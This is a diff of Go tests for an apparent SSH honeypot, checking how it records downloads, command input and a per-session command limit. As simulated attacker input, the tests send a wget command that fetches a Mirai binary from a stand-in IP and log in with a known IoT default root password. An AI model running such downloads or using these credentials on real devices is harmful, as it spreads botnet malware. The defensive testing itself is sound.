@@ -110,7 +110,8 @@ func TestPasswordLoginAndExec(t *testing.T) {
 	if d := ts.pub.ofKind(event.FileDownload); len(d) != 1 || d[0].URL != "http://198.51.100.7/bins/mirai.arm" || d[0].Tool != "wget" {
 		t.Errorf("downloads %+v", d)
 	}
-	if c := ts.pub.ofKind(event.CommandInput); len(c) != 2 || c[0].Input != "echo hello" || c[0].Output != "hello\n" {
+	// exec is sh -c: the whole text is one command.
+	if c := ts.pub.ofKind(event.CommandInput); len(c) != 1 || c[0].Input != "echo hello\nwget http://198.51.100.7/bins/mirai.arm" || !strings.HasPrefix(string(c[0].Output), "hello\n") {
 		t.Errorf("commands %+v", c)
 	}
 	evs := ts.pub.events()
@@ -261,9 +262,12 @@ func TestCommandLimit(t *testing.T) {
 	lim.MaxCommands = 2
 	ts := startServer(t, DefaultConfig(), lim, "")
 	cl := dial(t, ts.addr, clientConfig("root", xssh.Password("xc3511")))
-	out, status := run(t, cl, "echo 1\necho 2\necho 3")
-	if out != "1\n2\n" || status != 1 {
-		t.Errorf("output %q status %d", out, status)
+	if out, status := run(t, cl, "echo 1"); out != "1\n" || status != 0 {
+		t.Errorf("first command: output %q status %d", out, status)
+	}
+	// The last command allowed still gets its answer, then the session ends.
+	if out, status := run(t, cl, "echo 2"); out != "2\n" || status != 1 {
+		t.Errorf("last command: output %q status %d", out, status)
 	}
 	closed := ts.pub.waitKind(t, event.SessionClosed, 1)
 	if closed[0].Message != "command limit" || len(ts.pub.ofKind(event.CommandInput)) != 2 {
